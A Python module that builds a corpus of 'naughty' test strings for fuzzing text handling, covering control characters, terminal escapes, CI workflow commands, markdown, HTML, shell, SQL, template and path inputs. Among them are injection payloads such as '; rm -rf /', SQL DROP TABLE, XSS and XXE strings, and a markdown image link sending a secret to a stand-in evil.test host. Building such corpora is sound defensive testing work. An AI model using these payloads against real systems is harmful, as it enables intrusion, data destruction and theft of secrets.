"""Texts that break programs, made from a small table: each class is a few characters in a few places."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

__all__ = ["NAUGHTY"]


def _points(*ranges: tuple[int, int]) -> list[str]:
    return [chr(code) for first, last in ranges for code in range(first, last + 1)]


CONTROLS = _points((0x00, 0x1F), (0x7F, 0x9F))
DIRECTIONS = _points((0x202A, 0x202E), (0x2066, 0x2069), (0x200E, 0x200F), (0x61C, 0x61C))
INVISIBLE = _points(
    (0x200B, 0x200D), (0x2060, 0x2064), (0xFEFF, 0xFEFF), (0xAD, 0xAD), (0x180E, 0x180E), (0x34F, 0x34F),
    (0xFE0E, 0xFE0F), (0xFFF9, 0xFFFB), (0xE0001, 0xE0001), (0xE0020, 0xE0024), (0x3164, 0x3164),
)  # fmt: skip
BLANKS = _points(
    (0xA0, 0xA0), (0x1680, 0x1680), (0x2000, 0x200A), (0x2028, 0x2029), (0x202F, 0x202F), (0x3000, 0x3000)
)
NOT_CHARACTERS = _points(
    (0xD800, 0xD801), (0xDBFF, 0xDC00), (0xDFFF, 0xDFFF), (0xFDD0, 0xFDD1), (0xFDEF, 0xFDEF),
    (0xFFFE, 0xFFFF), (0x1FFFE, 0x1FFFF), (0x10FFFE, 0x10FFFF), (0xE000, 0xE000), (0xF8FF, 0xF8FF),
)  # fmt: skip
TERMINAL = [
    f"{start}{body}"
    for start, body in product(
        ("\x1b[", "\x9b"), ("2J", "31mred", "0;0Hforged", "8m", "21t", "?1049h", "6n", "999D", "1A", "K")
    )
] + [f"\x1b]{body}\x07" for body in ("0;title", "52;c;ZXZpbA==", "8;;https://evil.test\x07link", "4;1;?")]
COMMANDS = [
    shape.format(name)
    for shape, name in product(
        (
            "\n::{0}::x",
            "\r::{0} name=a::x",
            "%0A::{0}::x",
            "  ::{0} file=a,line=1::x",
            "##[{0}]x",
            "a\x0b::{0}::b",
        ),
        ("stop-commands", "error", "warning", "add-mask", "set-output", "save-state", "group", "debug"),
    )
]
MARKDOWN = [
    "# a", "## a ##", "> a", "> [!WARNING]\n> a", "- a", "- [ ] a", "* a", "+ a", "1. a", "1) a", "---",
    "===", "***", "___", "```", "```\na", "~~~", "    a", "\ta", "a  \nb", "a\\\nb", "| a | b |", "|",
    "a|b\n-|-\n1|2", "*a*", "**a**", "***a***", "_a_", "__a__", "~a~", "~~a~~", "`a`", "``a``", "`", "\\",
    "\\*", "\\\\", "a\\", "[a](b)", "[a](https://evil.test)", "[a](https://evil.test 'b')",
    "[a](javascript:alert(1))", "[a][b]", "[a]", "[b]: https://evil.test", "![a](https://evil.test/a.png)",
    "![x](https://evil.test/?q=${SECRET})", "[^1]", "[^1]: a", "<https://evil.test>",
    "<mailto:a@evil.test>", "https://evil.test", "http://evil.test/a?b=c#d", "www.evil.test",
    "WWW.evil.test/a", "ftp://evil.test", "ssh://evil.test", "a@evil.test", "mailto:a@evil.test",
    "xmpp:a@evil.test/b", "@a", "@org/team", "@channel", "@here", "(@a)", "a@a", "#1", "a/b#1", "GH-1",
    "gh-12", "0123456789abcdef0123456789abcdef01234567", "a1b2c3d", "a/b@a1b2c3d", "!1", "a/b!1", "~bug",
    '~"a b"', "%1", '%"a b"', "$1", "&1", "^alert#1", "*iteration:1", "[vulnerability:1]", ":smile:",
    ":+1:", ":a:b:", "$a$", "$$a$$", "$`a`$", "{+ a +}", "{- a -}", "[+ a +]", "[- a -]", "[[a]]",
    "[[_TOC_]]", "[TOC]", "==a==", "H~2~O", "/close", "/merge", "\n/close", "fixes #1", "a\n\n# b",
    "a\n\n<b>c</b>", "\n\n---\n\n", "a\n| b |", "<!-- kb lint -->", "<!-- kb: allow schema - a -->", "{.a}",
    "{:.a}", "::: a", ":::a\nb\n:::", "<details>", "<summary>", "&copy;", "&#64;a", "&#x40;a", "&lt;b&gt;",
    "&commat;a",
]  # fmt: skip
MARKUP = [
    f"{start}{body}"
    for start, body in product(
        ("", '">', "'>", "</title>", "</script>", "</style>", "</textarea>", "-->", "]]>", "</mark></li>"),
        ("<script>x()</script>", "<img src=x onerror=x()>", "<svg/onload=x()>"),
    )
] + [
    "<", ">", "&", "<>", "</", "<!", "<?", "<!--", "-->", "--!>", "<!---->", "<![CDATA[", "]]>",
    "<![CDATA[a]]>", "<?xml version='1.0'?>", "<?php x(); ?>", "<!DOCTYPE a>",
    "<!ENTITY a SYSTEM 'file:///etc/passwd'>", "&a;", "&#0;", "&#xD800;", "&#x1b;", "&amp", "&amp;amp;",
    "<b", "<b>a</b>", "<a href='https://evil.test'>b</a>", "<iframe src=//a>", "<base href=//a>",
    "<meta http-equiv=refresh content=0>", "<style>*{}</style>", "<link rel=stylesheet href=//a>",
    "<testcase name='a'/>", "</failure></testcase>", "' onmouseover='x()", '" onmouseover="x()',
    "` onmouseover=`x()", "javascript:x()", "data:text/html,<script>x()</script>", "expression(x())",
    "</article><article>", "\x00<b>",
]  # fmt: skip
QUOTES = [f"{a}{b}" for a, b in product("'\"`«“‘", ("", "a", "a'", 'a"', "\\"))]
FORMULAS = [
    f"{start}{body}"
    for start, body in product(
        ("=", "+", "-", "@", "\t=", "\r="), ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("//a")', "SUM(A1)")
    )
]
SHELL = [
    "$(id)", "`id`", "; id", "| id", "|| id", "&& id", "& id", "> /dev/null", "< /etc/passwd", "${IFS}id",
    "$HOME", "%PATH%", "%CD%", "!!", "*", "?", "~", "~root", "-rf", "--help", "-- a", "$'a'", "a\\\nb",
    "{a,b}", "#a", "a #b", "$(touch /tmp/a)", "a; rm -rf /", "\\$(id)", "%USERPROFILE%", "@echo off",
    "^&id", "$env:PATH", "$(($1))",
]  # fmt: skip
SQL = [
    "' OR 1=1 --", "'; DROP TABLE a; --", '" OR ""="', "1; SELECT 1", "admin'--", "') OR ('a'='a",
    "/* a */", "a%' --",
]  # fmt: skip
TEMPLATES = [
    "{0}", "{1}", "{}", "{a}", "{{a}}", "{{{a}}}", "{%a%}", "{% raw %}", "${a}", "#{a}", "<%= a %>", "%s",
    "%d%n%x", "%(a)s", "$a", "@{a}", "[a](0)", "[a](1)", "[a\\](0)", "[a](sarif:/runs/0)", "\\{0\\}", "{",
    "}", "}{", "{{", "}}", "${{ secrets.TOKEN }}", "${{ github.event.pull_request.title }}", "__proto__",
    "constructor",
]  # fmt: skip
NUMBERS = [
    "0", "-0", "00", "1e400", "-1e400", "NaN", "Infinity", "-Infinity", "0x10", "0b1", "1_000", "1,000.00",
    "1.000,00", "9" * 90, "0." + "0" * 60 + "1", "9007199254740993", "-2147483649", "１２３", "٣", "²", "½",
    "Ⅷ", "1/0", "0/0", "1e-400",
]  # fmt: skip
WORDS = [
    "null", "Null", "None", "nil", "undefined", "true", "false", "NaN()", "yes", "no", "on", "off", "CON",
    "PRN", "AUX", "NUL", "COM1", "LPT1", "con.md", "nul.md", "!!python/object:a", "*a", "&a", "? a", "- ",
    ": a", "a: b", "'a", "| a",
]  # fmt: skip
FILES = [
    "..", ".", "../..", "../../etc/passwd", "a/../b", "/etc/passwd", "//a/b", "C:\\a", "\\\\a\\b",
    "file:///a", "a:b", "javascript:a", "a?b", "a#b", "a%2e%2e%2fb", "%00", "%", "%zz", "a b", " a", "a ",
    "a.", "-a", "=a", "~a", "a\nb", "a\tb", "à", "a\u0300", "日本", "a,b", "a;b", "a=b", "a,line=1", "a::b",
    "é/è", "a" * 90, "a[1]", "a(1)", "a'b", 'a"b', "a`b",
]  # fmt: skip
EMOJI = [
    "👍", "👍🏽", "👩‍👩‍👧", "🏳️‍🌈", "🇮🇹", "🇮", "1️⃣", "❤️", "❤", "🏴\U000e0067\U000e0062\U000e007f", "👩🏿‍🚒",
    "🫠",
    "☺︎", "🔟", "💩" * 20,
]  # fmt: skip
COMBINING = ["a" + chr(0x300 + code) * count for code, count in product(range(0, 112, 16), (1, 3, 30))] + [
    "\u0301a", "\u20e3",
]  # fmt: skip
WRITING = [
    "שלום", "مرحبا بالعالم", "שלום abc 123", "abc مرحبا 123", "ﷺ", "日本語", "한국어", "ภาษาไทย", "हिन्दी",
    "Ελληνικά", "Русский", "İstanbul", "straße", "ﬁ", "ǅ", "𝔘𝔫𝔦", "ａｂｃ", "ⓐⓑ", "ʇxǝʇ",
    "Perché no? È così: «sì»", "l'elettricità", "Zoë", "Ð", "ſ", "ﬀ",
]  # fmt: skip
PROGRAMS = [
    "(a+)+$", ".*", "[a-", "(?<a", "a{1,99999}", "\\d", "\\", "\\\\", "\\n", "\\u0000", "\\x1b", "\\0",
    '"},{"', '"}]}', "[]", "{}", '{"a": 1}', "','b':'c", "//a", "/*a", "*/", "--", ";;", "a\r\nb",
    "a\u2028alert(1)", "\ufeffa", "a\x00b", "\x1a", "\x04",
]  # fmt: skip


def _made() -> Iterator[str]:
    for character in (*CONTROLS, *DIRECTIONS, *INVISIBLE, *BLANKS, *NOT_CHARACTERS):
        yield f"a{character}b"
    for character in (*DIRECTIONS, *BLANKS[:4], *INVISIBLE[:4]):
        yield f"{character}riga 1: tutto a posto"
    yield from ("", " ", "\n", "\t \n")
    for group in (
        TERMINAL, COMMANDS, MARKDOWN, MARKUP, QUOTES, FORMULAS, SHELL, SQL, TEMPLATES, NUMBERS, WORDS, FILES,
        EMOJI, COMBINING, WRITING, PROGRAMS,
    ):  # fmt: skip
        yield from group


NAUGHTY = tuple(dict.fromkeys(_made()))
